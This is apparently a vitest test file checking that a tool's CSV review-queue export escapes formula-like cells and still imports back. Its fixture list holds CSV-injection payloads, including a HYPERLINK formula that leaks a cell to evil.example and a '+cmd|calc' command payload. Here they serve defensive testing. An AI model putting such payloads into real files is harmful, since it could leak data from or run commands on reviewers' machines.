import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { fileWriter, runMain } from './test-packages.js';

const project = mkdtempSync(join(tmpdir(), 'plexus-review-formulas-'));
const write = fileWriter(project);
afterAll(() => rmSync(project, { recursive: true, force: true }));

// Texts a spreadsheet runs as formulas when the reviewer opens review.csv (CSV injection).
const texts = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1)',
  '\tthank you',
  'thank you, plain',
];
const calls = write(
  'calls.csv',
  `id,text,greeting\n${texts.map((text, index) => `c${index},"${text.replaceAll('"', '""')}",=yes`).join('\n')}\n`,
);
const card = write(
  'card.yaml',
  `name: Formulas\ndata: { path: ${calls} }\nscores:\n  - { name: Greeting, class: heuristic/keywords, phrases: [thank you], labels: ['=yes', '-no'], label_column: greeting, normalize_labels: { case: false } }\n`,
);

/** The CSV's rows as fields (a small reader: quoted fields, doubled quotes). */
function rowsOf(text: string): string[][] {
  const rows: string[][] = [];
  for (const match of text.matchAll(
    /((?:"(?:[^"]|"")*"|[^,\n]*)(?:,(?:"(?:[^"]|"")*"|[^,\n]*))*)\n/g,
  )) {
    const fields = [...match[1]!.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((field) =>
      field[1]!.startsWith('"') ? field[1]!.slice(1, -1).replaceAll('""', '"') : field[1]!,
    );
    rows.push(fields);
  }
  return rows;
}

describe('plexus review queue with texts and answers a spreadsheet would run', () => {
  it('writes them with a leading quote, and the file still imports back', async () => {
    const run = join(project, 'run');
    await runMain(['evaluate', card, '--out', run, '--no-cache', '--quiet']);
    const out = join(project, 'queue.csv');
    const queued = await runMain(['review', 'queue', '--run', run, '--n', '10', '--out', out]);
    expect(queued.code).toBe(0);
    const [header, ...rows] = rowsOf(readFileSync(out, 'utf8'));
    expect(header).toEqual([
      'item_id',
      'score',
      'label',
      'reviewer',
      'reviewed_at',
      'comment',
      'model_answer',
      'priority',
      'answer: Greeting',
      'text',
    ]);
    expect(rows).toHaveLength(texts.length);
    for (const row of rows) {
      const text = texts[Number(row[0]!.slice(1))]!;
      // Every shown cell: nothing a spreadsheet reads as a formula.
      for (const field of row.slice(6))
        expect(field, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[9]).toBe(/^[=+\-@\t]/.test(text) ? `'${text}` : text);
      expect(["'=yes", "'-no"]).toContain(row[6]);
    }
    // The columns feedback import reads are unchanged: the labelled file comes back whole.
    const labelled = readFileSync(out, 'utf8').replace(/^(c\d+),Greeting,,/gm, '$1,Greeting,=yes,');
    writeFileSync(out, labelled);
    const db = join(project, 'feedback.sqlite');
    const imported = await runMain([
      'feedback',
      'import',
      out,
      '--reviewer',
      'ana',
      '--feedback-db',
      db,
    ]);
    expect(imported.code, imported.stderr).toBe(0);
    const exported = await runMain([
      'feedback',
      'export',
      '--format',
      'jsonl',
      '--feedback-db',
      db,
    ]);
    const reviews = exported.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(reviews.map((review) => review.item_id).sort()).toEqual(
      texts.map((_, index) => `c${index}`),
    );
    expect(new Set(reviews.map((review) => review.label))).toEqual(new Set(['=yes']));
  });
});
